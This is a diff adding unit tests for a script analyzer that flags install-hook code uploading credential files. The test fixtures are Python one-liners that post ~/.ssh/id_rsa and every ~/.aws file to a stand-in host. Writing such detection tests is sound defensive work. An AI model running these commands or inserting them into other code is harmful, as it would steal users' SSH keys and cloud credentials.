@@ -273,3 +273,24 @@ describe('capabilities of the scripts install hooks run', () => {
     });
   });
 });
+
+describe('Python scripts that upload credential files', () => {
+  it('a key file posted with requests, and every AWS file globbed and sent with urlopen', () => {
+    for (const code of [
+      'import os,requests; requests.post("https://c.example-sync.dev/u", files={"f": open(os.path.expanduser("~/.ssh/id_rsa"), "rb")})',
+      'import os, glob, urllib.request; data = b"".join(open(p, "rb").read() for p in glob.glob(os.path.expanduser("~/.aws/*"))); urllib.request.urlopen("https://c.example-sync.dev/u", data)',
+    ])
+      expect(rules(analyzeScript(code, 'python', true))).toContain('script.secret-file-exfil');
+  });
+  it('reading the SSH config and checking a status page sends nothing', () => {
+    expect(
+      rules(
+        analyzeScript(
+          'import os, requests; cfg = open(os.path.expanduser("~/.ssh/config")).read(); requests.get("https://api.example.com/status")',
+          'python',
+          true,
+        ),
+      ),
+    ).not.toContain('script.secret-file-exfil');
+  });
+});
